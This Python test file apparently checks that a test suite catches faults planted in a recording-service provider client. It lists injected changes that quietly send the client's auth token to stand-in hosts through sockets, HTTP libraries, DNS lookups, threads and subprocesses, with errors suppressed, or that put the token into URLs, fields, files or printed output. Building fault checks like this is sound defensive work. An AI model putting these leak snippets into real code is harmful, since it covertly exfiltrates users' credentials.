"""Providers that send the token elsewhere, or share code with their emulator, in one way each."""

from __future__ import annotations

from collections.abc import Callable, Mapping

import pytest

#: The first test waits for the run of all.
pytestmark = pytest.mark.timeout(600)

Change = tuple[str, str, str]
_SENT = '        answer = self.transport.get("recordings", operation="list", params=params)\n'
_SUPPRESS = (
    "client.py",
    "from collections.abc",
    "from contextlib import suppress\nfrom collections.abc",
)
#: The client keeps the token, for the other change of a fault.
_KEPT = (
    "client.py",
    "        return HeaderAuth(",
    '        self._token = settings["token"]\n        return HeaderAuth(',
)


def _build_leak(code: str) -> Change:
    """Build a change that runs code before each page of a list; what it raises is ignored."""
    lines = "".join(f"            {line}\n" for line in code.splitlines())
    return "client.py", _SENT, f"        with suppress(Exception):\n{lines}{_SENT}"


#: name -> the tests that fail, words of the failure, and each change: file, right text, wrong text
FAULTS: Mapping[str, tuple[str, str, *tuple[Change, ...]]] = {
    # -- the token ---------------------------------------------------------------------------------
    "token_by_requests": (
        "test_nothing_but_the_vendor_is_connected_to",
        "and to nothing else",
        _SUPPRESS,
        _build_leak(
            "import requests\n"
            'headers = {"X-Token": str(vars(self.transport.auth))}\n'
            'requests.get("http://127.0.0.1:9/", headers=headers, timeout=0.2)'
        ),
    ),
    "token_by_urllib": (
        "test_nothing_but_the_vendor_is_connected_to",
        "and to nothing else",
        _SUPPRESS,
        _build_leak(
            "from urllib.request import urlopen\n"
            'urlopen("http://collector.invalid/", str(vars(self.transport.auth)).encode(), 0.2)'
        ),
    ),
    "token_by_http_client": (
        "test_nothing_but_the_vendor_is_connected_to",
        "and to nothing else",
        _SUPPRESS,
        _build_leak(
            "import http.client\n"
            'http.client.HTTPConnection("192.0.2.7", timeout=0.2).request("GET", "/")'
        ),
    ),
    "token_by_a_socket": (
        "test_nothing_but_the_vendor_is_connected_to",
        "and to nothing else",
        _SUPPRESS,
        _build_leak(
            "import socket\n"
            "with socket.socket() as leak:\n"
            "    leak.settimeout(0.2)\n"
            '    leak.connect_ex(("192.0.2.7", 443))'
        ),
    ),
    "token_by_a_datagram": (
        "test_nothing_but_the_vendor_is_connected_to",
        "and to nothing else",
        _SUPPRESS,
        _build_leak(
            "import socket\n"
            "with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as leak:\n"
            '    leak.sendto(str(vars(self.transport.auth)).encode(), ("127.0.0.1", 9))'
        ),
    ),
    "token_by_a_host_name": (
        "test_nothing_but_the_vendor_is_connected_to",
        "and to nothing else",
        _SUPPRESS,
        _build_leak('import socket\nsocket.getaddrinfo("token.collector.invalid", 80)'),
    ),
    "token_by_a_thread": (
        "test_nothing_but_the_vendor_is_connected_to",
        "and to nothing else",
        _SUPPRESS,
        _build_leak(
            "import threading, requests\n"
            "thread = threading.Thread(target=requests.get, args=('http://127.0.0.1:9/',), "
            "daemon=True)\n"
            "threading.excepthook = lambda args: None\n"
            "thread.start()"
        ),
    ),
    "token_by_a_process": (
        "test_nothing_but_the_vendor_is_connected_to",
        "and to nothing else",
        _SUPPRESS,
        _build_leak('import subprocess\nsubprocess.run(["true", str(vars(self.transport.auth))])'),
    ),
    "token_by_a_shell": (
        "test_nothing_but_the_vendor_is_connected_to",
        "and to nothing else",
        _SUPPRESS,
        _build_leak('import os\nos.system("true")'),
    ),
    "token_by_the_webhook_scheme": (
        "TestWebhooks::test_each_request_verifies_and_names_its_recording",
        "and to nothing else",
        (
            "webhooks.py",
            "        return mapping.read_recording(",
            "        import socket\n"
            "        with socket.socket() as leak:\n"
            "            leak.settimeout(0.2)\n"
            '            leak.connect_ex(("192.0.2.7", 443))\n'
            "        return mapping.read_recording(",
        ),
    ),
    "token_in_the_url_of_a_file": (
        "test_no_value_contains_a_credential",
        "shows the credential token",
        (
            "client.py",
            "        return mapping.read_recording(payload, self.account)",
            "        found = mapping.read_recording(payload, self.account)\n"
            "        files = (evolve(each, url=f'{each.url}&token={self._token}') for each in "
            "found.files)\n"
            "        return evolve(found, files=tuple(files))",
        ),
        _KEPT,
    ),
    "token_in_a_title": (
        "test_no_value_contains_a_credential",
        "shows the credential token",
        (
            "client.py",
            "        return mapping.read_recording(payload, self.account)",
            "        found = mapping.read_recording(payload, self.account)\n"
            "        return evolve(found, title=self._token)",
        ),
        _KEPT,
    ),
    "token_in_raw": (
        "test_no_value_contains_a_credential",
        "shows the credential token",
        (
            "client.py",
            "        return mapping.read_recording(payload, self.account)",
            "        found = mapping.read_recording(payload, self.account)\n"
            "        return evolve(found, raw={**found.raw, 'by': self._token})",
        ),
        _KEPT,
    ),
    "token_in_a_session": (
        "test_no_value_contains_a_credential",
        "shows the credential token",
        (
            "client.py",
            "        return mapping.read_session(answer.payload, session.target, self.account)",
            "        after = mapping.read_session(answer.payload, session.target, self.account)\n"
            "        return evolve(after, raw={**after.raw, 'by': self._token})",
        ),
        _KEPT,
    ),
    "token_in_the_query_of_a_list": (
        "test_no_url_of_a_request_contains_a_credential",
        "shows the credential token",
        ("client.py", _SENT, f"        params['token'] = self._token\n{_SENT}"),
        _KEPT,
    ),
    "token_is_printed": (
        "test_no_error_or_log_shows_a_credential",
        "what is printed shows the credential token",
        ("client.py", _SENT, f"        print(self._token)\n{_SENT}"),
        _KEPT,
    ),
    "token_in_a_file": (
        "test_nothing_but_the_vendor_is_connected_to",
        "caused the event open",
        _SUPPRESS,
        _build_leak(
            "from pathlib import Path\n"
            "from tempfile import gettempdir\n"
            'Path(gettempdir(), "zz").write_text(str(vars(self.transport.auth)))'
        ),
    ),
    "token_in_the_environment": (
        "test_nothing_but_the_vendor_is_connected_to",
        "caused the event os.putenv",
        _SUPPRESS,
        _build_leak('import os\nos.environ["LAST_TOKEN"] = str(vars(self.transport.auth))'),
    ),
    "token_by_a_server": (
        "test_nothing_but_the_vendor_is_connected_to",
        "caused the event socket.bind",
        _SUPPRESS,
        _build_leak('import socket\nsocket.create_server(("127.0.0.1", 0)).close()'),
    ),
    # -- the emulator ------------------------------------------------------------------------------
    "emulator_runs_the_text_of_the_mapping": (
        "test_the_emulator_shares_no_code_with_the_provider",
        "the emulator runs other code",
        (
            "emulator/recordings.py",
            '        if status == "ready":\n',
            "        from pathlib import Path\n\n"
            '        path = Path(__file__).parent.parent / "mapping.py"\n'
            '        space = {"__name__": "copied"}\n'
            "        exec(path.read_text(), space)\n"
            '        if space["STATUSES"].get(status) == "available":\n',
        ),
    ),
    "emulator_asks_its_provider": (
        "test_the_emulator_answers_without_a_provider",
        "calls Emulator.connect",
        (
            "emulator/app.py",
            "    def answer(self, request: Request) -> Reply:\n",
            "    def answer(self, request: Request) -> Reply:\n"
            "        assert self.connect().start_parameters\n",
        ),
    ),
    "emulator_imports_the_mapping": (
        "test_the_emulator_shares_no_code_with_the_provider",
        "no module that both import",
        (
            "emulator/app.py",
            "from recording_bravo.emulator.listing import",
            "from recording_bravo.mapping import KINDS as KINDS_OF_ROWS\n"
            "from recording_bravo.emulator.listing import",
        ),
    ),
    "emulator_imports_the_client": (
        "test_the_emulator_shares_no_code_with_the_provider",
        "no module that both import",
        (
            "emulator/listing.py",
            "LARGEST_PAGE = 20",
            "from recording_bravo.client import PER_PAGE as LARGEST_PAGE",
        ),
    ),
    "emulator_imports_the_mapping_later": (
        "test_the_emulator_shares_no_code_with_the_provider",
        "no module that both import",
        (
            "emulator/recordings.py",
            '        if status == "ready":\n',
            "        from recording_bravo import mapping\n\n"
            '        if mapping.STATUSES.get(status) == "available":\n',
        ),
    ),
    "emulator_imports_the_mapping_by_name": (
        "test_the_emulator_shares_no_code_with_the_provider",
        "no module that both import",
        (
            "emulator/recordings.py",
            '        if status == "ready":\n',
            "        import importlib\n\n"
            '        mapping = importlib.import_module("recording_bravo.mapping")\n'
            '        if mapping.STATUSES.get(status) == "available":\n',
        ),
    ),
    "emulator_imports_what_imports_the_mapping": (
        "test_the_emulator_shares_no_code_with_the_provider",
        "no module that both import",
        (
            "words.py",
            "",
            '"""Words."""\n\nfrom recording_bravo.mapping import STATUSES as WORDS\n',
        ),
        (
            "emulator/recordings.py",
            "from recording_core import Interval\n",
            "from recording_bravo.words import WORDS\nfrom recording_core import Interval\n",
        ),
        (
            "emulator/recordings.py",
            '        if status == "ready":\n',
            '        if WORDS.get(status) == "available":\n',
        ),
    ),
    "emulator_and_mapping_share_a_table": (
        "test_the_emulator_shares_no_code_with_the_provider",
        "no module that both import",
        ("words.py", "", '"""Words."""\n\nKIND_WORDS = ("call", "conference", "meeting")\n'),
        (
            "emulator/app.py",
            "from recording_bravo.emulator.listing import",
            "from recording_bravo.words import KIND_WORDS\n"
            "from recording_bravo.emulator.listing import",
        ),
        ("emulator/app.py", "KINDS[index % len(KINDS)]", "KIND_WORDS[index % len(KIND_WORDS)]"),
        (
            "mapping.py",
            "from recording_core import (\n",
            "from recording_bravo.words import KIND_WORDS\nfrom recording_core import (\n",
        ),
        (
            "mapping.py",
            'KINDS.get(fields.text("kind") or "")',
            'next((SessionKind(each) for each in KIND_WORDS if each == fields.text("kind")), None)',
        ),
    ),
    "the_mapping_imports_the_emulator": (
        "test_the_emulator_shares_no_code_with_the_provider",
        "no module that both import",
        (
            "mapping.py",
            'ROLES.get(each.text("role") or "", FileRole.AUDIO)',
            'FileRole.MIX if each.text("role") in FILES["call"] else FileRole.VIDEO',
        ),
        (
            "mapping.py",
            "from recording_core import (\n",
            "from recording_bravo.emulator.recordings import FILES\nfrom recording_core import (\n",
        ),
    ),
}


@pytest.mark.parametrize("fault", FAULTS)
def test_the_suite_finds_the_fault(fault: str, check_fault: Callable[[str], None]) -> None:
    check_fault(fault)


def test_the_honest_provider_passes_the_same_tests(check_honest: Callable[[], None]) -> None:
    check_honest()
